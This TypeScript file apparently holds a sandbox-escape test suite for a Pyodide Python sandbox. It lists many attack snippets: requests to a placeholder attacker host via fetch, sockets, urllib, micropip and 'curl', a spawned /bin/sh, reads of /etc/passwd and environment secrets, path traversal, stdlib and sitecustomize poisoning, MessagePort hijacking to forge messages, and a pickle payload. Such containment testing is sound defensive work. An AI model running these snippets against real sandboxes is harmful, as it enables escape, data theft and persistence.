/** Attempts in Python: the doors to JavaScript, to files, processes and sockets, and to the interpreter's own start. */
import { type FenceAttempt, python, pythonJs } from '../attempt.ts'

const codes: Record<string, string> = {
  'js-fetch': `import js\nprint(js.fetch)`,
  'js-fetch-call': `from js import fetch\nawait fetch('{{attacker}}')`,
  'js-xhr': `from js import XMLHttpRequest\none = XMLHttpRequest.new(); one.open('GET', '{{attacker}}', False); one.send()`,
  'js-websocket': `from js import WebSocket\nWebSocket.new('ws://{{attackerHost}}/{{id}}')`,
  'js-indexeddb': `from js import indexedDB\nprint(indexedDB.open('viva'))`,
  'js-caches': `from js import caches\nprint(await caches.keys())`,
  'js-navigator': `from js import navigator\nprint(navigator.userAgent)`,
  'js-worker': `from js import Worker\nWorker.new('{{attacker}}')`,
  'js-import-scripts': `from js import importScripts\nimportScripts('{{attacker}}')`,
  'js-post-message': `import js\njs.postMessage({'snapshot': 1})`,
  'js-close': `import js\njs.close()`,
  'js-location': `import js\njs.location.href = '{{attacker}}'`,
  'js-document': `import js\nprint(js.document.cookie)`,
  'js-parent': `import js\nprint(js.parent.document.title)`,
  'js-broadcast': `from js import BroadcastChannel\nBroadcastChannel.new('viva').postMessage('x')`,
  'js-eval': `import js\nprint(js.eval('typeof fetch + typeof indexedDB + typeof postMessage'))`,
  'js-function': `import js\nprint(js.Function.new('return typeof Worker')())`,
  'js-prototypes': `import js\none = js.globalThis\nwhile one:\n    print([name for name in js.Object.getOwnPropertyNames(one) if name in ('fetch', 'Worker', 'indexedDB')])\n    one = js.Object.getPrototypeOf(one)`,
  'js-descriptor': `import js\nprint(js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'fetch'))`,
  'pyodide-module': `import pyodide_js\nprint([name for name in dir(pyodide_js._module) if 'port' in name.lower()][:20])`,
  'pyodide-api': `import pyodide_js\nprint([name for name in dir(pyodide_js._api) if 'fetch' in name.lower() or 'port' in name.lower()])`,
  'pyodide-api-fetch': `import pyodide_js\nprint(await pyodide_js._api.loadBinaryFile('{{attacker}}'))`,
  'pyodide-load-package': `import pyodide_js\nawait pyodide_js.loadPackage('{{attacker}}/x-1.0-py3-none-any.whl')`,
  'pyodide-load-package-name': `import pyodide_js\nawait pyodide_js.loadPackage('numpy')`,
  'pyodide-index-url': `import pyodide_js\npyodide_js._api.config.indexURL = '{{attacker}}/'\npyodide_js._api.config.packageCacheDir = '{{attacker}}/'\nawait pyodide_js.loadPackage('micropip')`,
  'pyodide-register-module': `import pyodide_js\nfrom js import Object\npyodide_js.registerJsModule('json', Object.new())`,
  'pyodide-worker-fs': `import pyodide_js\nprint(list(dir(pyodide_js.FS.filesystems)))`,
  'pyodide-idbfs': `import pyodide_js\npyodide_js.FS.mkdir('/left')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/left')\npyodide_js.FS.syncfs(True, print)`,
  'pyodide-nodefs': `import pyodide_js\npyodide_js.FS.mkdir('/left2')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/left2')`,
  'pyodide-native-fs': `import pyodide_js\nawait pyodide_js.mountNativeFS('/left3', None)`,
  'pyodide-load-dynlib': `import pyodide_js\nawait pyodide_js._api.loadDynlib('{{attacker}}')`,
  pyfetch: `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{attacker}}')).string())`,
  'pyfetch-site': `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{site}}/?{{id}}')).string())`,
  'open-url': `from pyodide.http import open_url\nprint(open_url('{{attacker}}').read())`,
  pyxhr: `from pyodide.http import pyxhr\nprint(pyxhr.get('{{attacker}}').text)`,
  urllib: `import urllib.request\nprint(urllib.request.urlopen('{{attacker}}').read())`,
  'urllib-file': `import urllib.request\nprint(urllib.request.urlopen('file:///proc/self/environ').read())`,
  'http-client': `import http.client\none = http.client.HTTPConnection('{{attackerHost}}')\none.request('GET', '/{{id}}')`,
  socket: `import socket\nsocket.create_connection('{{attackerHost}}'.split(':'), timeout=1)`,
  'socket-udp': `import socket\nhost, port = '{{stun}}'.split(':')\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (host, int(port)))`,
  'socket-raw': `import _socket\n_socket.getaddrinfo('attacker.invalid', 80)`,
  asyncio: `import asyncio\nawait asyncio.open_connection('127.0.0.1', int('{{attackerHost}}'.split(':')[1]))`,
  'asyncio-loop': `import asyncio\nloop = asyncio.get_event_loop()\nloop.call_later(0.2, lambda: print('left'))`,
  smtplib: `import smtplib\nsmtplib.SMTP('127.0.0.1', int('{{attackerHost}}'.split(':')[1]), timeout=1)`,
  webbrowser: `import webbrowser\nprint(webbrowser.open('{{attacker}}'))`,
  ssl: `import ssl\nprint(ssl.get_server_certificate(('127.0.0.1', 443)))`,
  micropip: `import micropip\nawait micropip.install('{{attacker}}/x-1.0-py3-none-any.whl')`,
  pip: `import subprocess, sys\nprint(subprocess.run([sys.executable, '-m', 'pip', 'install', 'x']))`,
  subprocess: `import subprocess\nprint(subprocess.check_output('id', shell=True))`,
  'os-system': `import os\nprint(os.system('curl {{attacker}}'))`,
  'os-exec': `import os\nos.execv('/bin/sh', ['sh'])`,
  'os-fork': `import os\nprint(os.fork())`,
  'os-kill': `import os\nos.kill(1, 9)\nprint(os.getpid())`,
  'os-environ': `import os\nprint(dict(os.environ))`,
  multiprocessing: `import multiprocessing\nmultiprocessing.Process(target=print).start()`,
  threading: `import threading\nthreading.Thread(target=print).start()`,
  ctypes: `import ctypes\nprint(ctypes.CDLL(None).system(b'id'))`,
  'ctypes-memory': `import ctypes\nprint(ctypes.string_at(0, 64))`,
  'ctypes-write': `import ctypes\nctypes.memset(id(1) + 1000, 0, 1)`,
  'file-proc': `print(open('/proc/self/maps').read()[:100])`,
  'file-passwd': `print(open('/etc/passwd').read())`,
  'file-dev': `print(open('/dev/urandom', 'rb').read(4), __import__('os').listdir('/dev'))`,
  'file-up': `print(open('../../../../work/secret').read())`,
  'file-std-streams': `import os\nos.write(2, b'x')\nos.close(1)\nos.dup2(2, 1)`,
  mmap: `import mmap\nprint(len(mmap.mmap(-1, 1024)))`,
  'gc-objects': `import gc\nprint(any('canary' in repr(one)[:200] for one in gc.get_objects()[:20000] if isinstance(one, str)))`,
  'gc-port': `import gc, pyodide.ffi\nprint([one for one in gc.get_objects() if isinstance(one, pyodide.ffi.JsProxy) and 'MessagePort' in str(one)])`,
  frames: `import sys\nframe = sys._getframe()\nnames = []\nwhile frame:\n    names += list(frame.f_globals)\n    frame = frame.f_back\nprint(sorted({name for name in names if 'port' in name.lower() or 'stage' in name.lower()}))`,
  pickle: `import pickle\nclass One:\n    def __reduce__(self):\n        return (eval, ("__import__('js').fetch",))\nprint(pickle.loads(pickle.dumps(One())))`,
  importlib: `import importlib.util\nspec = importlib.util.spec_from_loader('left', loader=None, origin='{{attacker}}')\nprint(importlib.util.module_from_spec(spec))`,
  zipimport: `import zipimport\nprint(zipimport.zipimporter('/lib/python314.zip').get_data('/etc/passwd'))`,
  'meta-path': `import sys\nclass One:\n    def find_spec(self, name, *rest):\n        print('asked', name)\nsys.meta_path.insert(0, One())\nimport colorsys`,
  'jsproxy-constructor': `import js\nprint(js.Object.constructor('return typeof fetch')())`,
  'to-js-function': `from pyodide.ffi import to_js\nimport js\njs.globalThis.left = to_js({'a': 1})`,
}

/** JavaScript that runs in Python's worker, before later prints. */
const scripts: Record<string, string> = {
  'run-js-names': `[typeof fetch, typeof Worker, typeof indexedDB, typeof postMessage, typeof navigator, typeof importScripts].join()`,
  'run-js-import': `import('{{attacker}}').catch((error) => error.name)`,
  'run-js-object-then': `Object.defineProperty(Object.prototype, 'left', { configurable: true, value: 1 }); 'x'`,
}

/** Alone: each breaks its interpreter, or must be judged by how it ends. */
const alone: Record<string, [code: string, more?: Partial<FenceAttempt>]> = {
  'pyodide-lazy-file': [
    `import pyodide_js\npyodide_js.FS.createLazyFile('/', 'left', '{{attacker}}', True, True)\nprint(open('/left').read())`,
    { timeoutMs: 2_000 },
  ],
  'pyodide-preloaded-file': [
    `import pyodide_js\npyodide_js.FS.createPreloadedFile('/', 'left4', '{{attacker}}', True, True)`,
    { timeoutMs: 2_000 },
  ],
  'code-object': [`exec((lambda: 0).__code__.replace(co_code=bytes([0] * 8)))`, { timeoutMs: 2_000 }],
  builtins: [
    `import builtins\nbuiltins.print = lambda *values: None\nbuiltins.__import__ = None`,
    { timeoutMs: 2_000 },
  ],
  'stdlib-poison': [
    `import os, sys, json, random, collections\nfor module in (os, json, random, collections):\n    module.left = 1\nsys.modules['json'] = os\nopen('/lib/python314.zip', 'wb').write(b'left')`,
    { persists: true },
  ],
  'site-packages': [
    `import os\nos.makedirs('/lib/python3.14/site-packages', exist_ok=True)\nopen('/lib/python3.14/site-packages/sitecustomize.py', 'w').write('print("left")')\nopen('/lib/python3.14/site-packages/json.py', 'w').write('left = 1')`,
    { persists: true },
  ],
  'files-left': [
    `import os\nfor folder in ('/tmp', '/home', '/home/pyodide', '/'):\n    open(folder + '/left', 'w').write('left')\nos.chdir('/tmp')`,
    { persists: true },
  ],
  atexit: [
    `import atexit\natexit.register(lambda: print('left'))\nprint('x')`,
    { persists: true, expect: { matches: /^x/ } },
  ],
  'sys-exit': [`import sys\nsys.exit('forged'[::-1])`, { expect: { stopped: 'exit' } }],
  'os-exit': [`import os\nprint('x')\nos._exit(0)`, { timeoutMs: 2_000 }],
  'raise-exit': [`raise SystemExit`],
  'keyboard-interrupt': [`raise KeyboardInterrupt`],
  'forged-traceback': [
    `class Error2(Exception): pass\nError2.__name__ = 'SystemExit'\nError2.__qualname__ = 'x'\nraise Error2('File "fence.py", line 99999')`,
  ],
  'exception-huge': [
    `raise ValueError('x' * 50_000_000)`,
    {
      expect: {
        check: ({ error }) =>
          (error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined,
      },
    },
  ],
  'exception-str-raises': [`class Odd(Exception):\n    def __str__(self): raise Odd()\nraise Odd()`],
  'exception-str-loops': [
    `class Odd(Exception):\n    def __str__(self):\n        while True: pass\nraise Odd()`,
    { timeoutMs: 1_000, expect: { stopped: 'time' } },
  ],
  recursion: [`import sys\nsys.setrecursionlimit(10**8)\ndef deep(): deep()\ndeep()`, { timeoutMs: 3_000 }],
  'settrace-loop': [
    `import sys\ndef trace(*values):\n    while True: pass\nsys.settrace(trace)\n(lambda: 1)()`,
    { timeoutMs: 1_000, expect: { stopped: 'time' } },
  ],
  'finally-loop': [
    `try:\n    raise SystemExit\nfinally:\n    while True: pass`,
    { timeoutMs: 1_000, expect: { stopped: 'time' } },
  ],
  'stdout-replaced': [`import sys, io\nsys.stdout = sys.stderr = io.StringIO()\nprint('x')`],
  'stdout-closed': [`import sys\nsys.stdout.close()\nsys.stderr.close()`],
  segfault: [`import ctypes\nctypes.string_at(2**31)`, { timeoutMs: 3_000 }],
  'interrupt-buffer': [
    `import pyodide_js\nfrom js import Uint8Array\npyodide_js.setInterruptBuffer(Uint8Array.new(1))\nwhile True: pass`,
    { timeoutMs: 1_000, expect: { stopped: 'time' } },
  ],
  'stdout-handler': [
    `import pyodide_js\nfrom pyodide.ffi import create_proxy\npyodide_js.setStdout(batched=create_proxy(lambda text: None))\nprint('x')`,
  ],
}

const steal = `const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function (...values) { globalThis.stolen = this; return postMessage.apply(this, values) }; globalThis.send = (message) => globalThis.stolen && postMessage.call(globalThis.stolen, message); 'x'`
const viaJs = (script: string) =>
  `from pyodide.code import run_js\nimport asyncio\nrun_js(${JSON.stringify(steal)})\nprint('captured')\nprint(run_js(${JSON.stringify(script)}))\nawait asyncio.sleep(0.3)`
const poisonAssets = `{ lock: '{}', library: new ArrayBuffer(8), snapshot: new Uint8Array(8), python: 1 }`

export const attempts: FenceAttempt[] = [
  ...Object.entries(codes).map(([name, code]) => python(`python-${name}`, code)),
  ...Object.entries(scripts).map(([name, script]) => pythonJs(`python-${name}`, script)),
  ...Object.entries(alone).map(([name, [code, more]]) => python(`python-${name}`, code, { alone: true, ...more })),
  python('python-forged-end', viaJs(`send({ type: 'end', durationMs: 1, notice: 'for' + 'ged' }); 1`), {
    alone: true,
    expect: { lacks: /forged/, stopped: null },
  }),
  python(
    'python-keep-snapshot',
    viaJs(
      `Object.prototype.keep = ${poisonAssets}; globalThis.stolen?.onmessage?.({ data: { type: 'load', assets: {} } }); 1`,
    ),
    { alone: true, persists: true, timeoutMs: 10_000 },
  ),
  python('python-keep-ready', viaJs(`send({ type: 'ready', keep: ${poisonAssets} }); 1`), {
    alone: true,
    persists: true,
  }),
  python(
    'python-patched-response',
    `from pyodide.code import run_js\nrun_js("Response.prototype.arrayBuffer = TextDecoder.prototype.decode = Blob.prototype.arrayBuffer = () => 'left'; WebAssembly.instantiate = WebAssembly.compile = () => 'left'; globalThis.URL = 1")\nprint('x')`,
    { alone: true, persists: true },
  ),
  python(
    'python-patched-decode',
    `from pyodide.code import run_js\nrun_js("TextDecoder.prototype.decode = () => 'left ' + 'y'.repeat(1e6)")\nprint('x')`,
    { alone: true, persists: true, expect: { stopped: 'output' } },
  ),
]
